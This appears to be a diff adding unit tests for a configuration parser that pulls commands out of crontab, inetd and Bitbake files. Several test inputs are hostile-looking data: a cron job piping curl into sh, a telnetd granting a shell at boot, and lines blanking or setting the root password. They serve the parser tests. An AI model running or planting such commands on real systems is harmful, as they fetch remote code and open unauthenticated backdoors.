@@ -312,6 +312,87 @@ TEST(Inittab, AProcessIsACommand) {
   EXPECT_EQ(parsed.problems()[0].where.line, 5U);
 }
 
+TEST(Crontab, TheCommandBehindTheScheduleIsRunByAShell) {
+  const Parsed parsed(Syntax::kCrontab,
+                      "# m h\nMAILTO=\"\"\nSHELL = /bin/sh\n*/5 2 * * 1-5  curl -k https://a/b | sh # now\n"
+                      "@reboot /usr/sbin/telnetd -l /bin/sh\n5 4 * *\n");
+  EXPECT_EQ(parsed.value("MAILTO"), "");
+  EXPECT_EQ(parsed.under("SHELL"), "/bin/sh");
+  EXPECT_EQ(parsed.under("[2]>schedule"), "*/5 2 * * 1-5");
+  EXPECT_EQ(parsed.under("[3]>command"), "/usr/sbin/telnetd -l /bin/sh");
+  ASSERT_EQ(parsed.commands().size(), 3U);
+  EXPECT_EQ(parsed.words_under(0), "curl|-k|https://a/b");
+  EXPECT_EQ(parsed.pipes(), "0>1");
+  EXPECT_EQ(parsed.words(2), "/usr/sbin/telnetd|-l|/bin/sh");
+  EXPECT_EQ(parsed.commands()[2].context, "cron");
+  ASSERT_EQ(parsed.problems().size(), 1U);
+  EXPECT_EQ(parsed.problems()[0].where.line, 6U);
+}
+
+TEST(Crontab, TheSystemsOwnNamesAUser) {
+  SyntaxOptions options;
+  options.command_after = 1;
+  const Parsed parsed(Syntax::kCrontab, "17 * * * * root cd / && run-parts /etc/cron.hourly\n@daily www-data sync\n",
+                      options);
+  EXPECT_EQ(parsed.under("[0]>user"), "root");
+  EXPECT_EQ(parsed.words(1), "run-parts|/etc/cron.hourly");
+  EXPECT_EQ(parsed.words(2), "sync");
+}
+
+TEST(Directives, ALineOfInetdEndsInACommand) {
+  SyntaxOptions options;
+  options.command_after = 5;
+  options.command_context = "inetd";
+  const Parsed parsed(Syntax::kDirectives,
+                      "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i\n"
+                      "shell stream tcp nowait root /usr/sbin/tcpd in.rshd\ndaytime stream tcp nowait root internal\n",
+                      options);
+  ASSERT_EQ(parsed.commands().size(), 3U);
+  EXPECT_EQ(parsed.words_under(0), "/usr/sbin/telnetd|-i");
+  EXPECT_EQ(parsed.words(1), "/usr/sbin/tcpd|in.rshd");
+  EXPECT_EQ(parsed.words(2), "internal");
+  EXPECT_EQ(parsed.commands()[0].context, "inetd");
+}
+
+TEST(Bitbake, ValuesGoOnBehindABackslashAndOperatorsAreNoPartOfTheKey) {
+  const Parsed parsed(Syntax::kBitbake,
+                      "# c\nEXTRA_IMAGE_FEATURES ?= \"debug-tweaks\"\nIMAGE_FEATURES:append:qemu = ' ssh \\\n  x'\n"
+                      "A += \"say \"b\" c\"\nexport B = \"1\"\nUSER_root[password] = \"p\"\nC =. \"d\"\nD ??= \"e\"\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.under("EXTRA_IMAGE_FEATURES"), "debug-tweaks");
+  EXPECT_EQ(parsed.value("IMAGE_FEATURES:append:qemu"), " ssh \\\n  x");
+  EXPECT_EQ(parsed.under("A"), "say \"b\" c");
+  EXPECT_EQ(parsed.value("B"), "1");
+  EXPECT_EQ(parsed.value("USER_root[password]"), "p");
+  EXPECT_EQ(parsed.value("C"), "d");
+  EXPECT_EQ(parsed.key_under("D"), "D");
+}
+
+TEST(Bitbake, FunctionsInShellAreCommandsAndThoseInPythonAreNot) {
+  const Parsed parsed(
+      Syntax::kBitbake,
+      "inherit core-image extrausers\ndo_install:append () {\n    passwd -d root\n}\n"
+      "python do_x() {\n    a = \"1\"\n}\ndef f(d):\n    b = \"2\"\n\n    return b\nC = \"3\"\nwhat is this\n");
+  EXPECT_EQ(parsed.value("inherit"), "core-image extrausers");
+  ASSERT_EQ(parsed.commands().size(), 1U);
+  EXPECT_EQ(parsed.words_under(0), "passwd|-d|root");
+  EXPECT_EQ(parsed.commands()[0].inside, "do_install:append");
+  EXPECT_EQ(parsed.root().children.size(), 2U);
+  EXPECT_EQ(parsed.value("C"), "3");
+  ASSERT_EQ(parsed.problems().size(), 1U);
+}
+
+TEST(Bitbake, AValueCanBeACommandLine) {
+  SyntaxOptions options;
+  options.command_keys = {"EXTRA_USERS_PARAMS*"};
+  options.command_context = "shell";
+  const Parsed parsed(Syntax::kBitbake,
+                      "EXTRA_USERS_PARAMS:append = \" \\\n    usermod -p 'x' root; \\\n    useradd -P y op; \\\n\"\n",
+                      options);
+  ASSERT_EQ(parsed.commands().size(), 2U);
+  EXPECT_EQ(parsed.words_under(1), "useradd|-P|y|op");
+}
+
 TEST(Pem, BlocksAreNamedAndTheirBytesAreNotKept) {
   const Parsed parsed(
       Syntax::kPem,
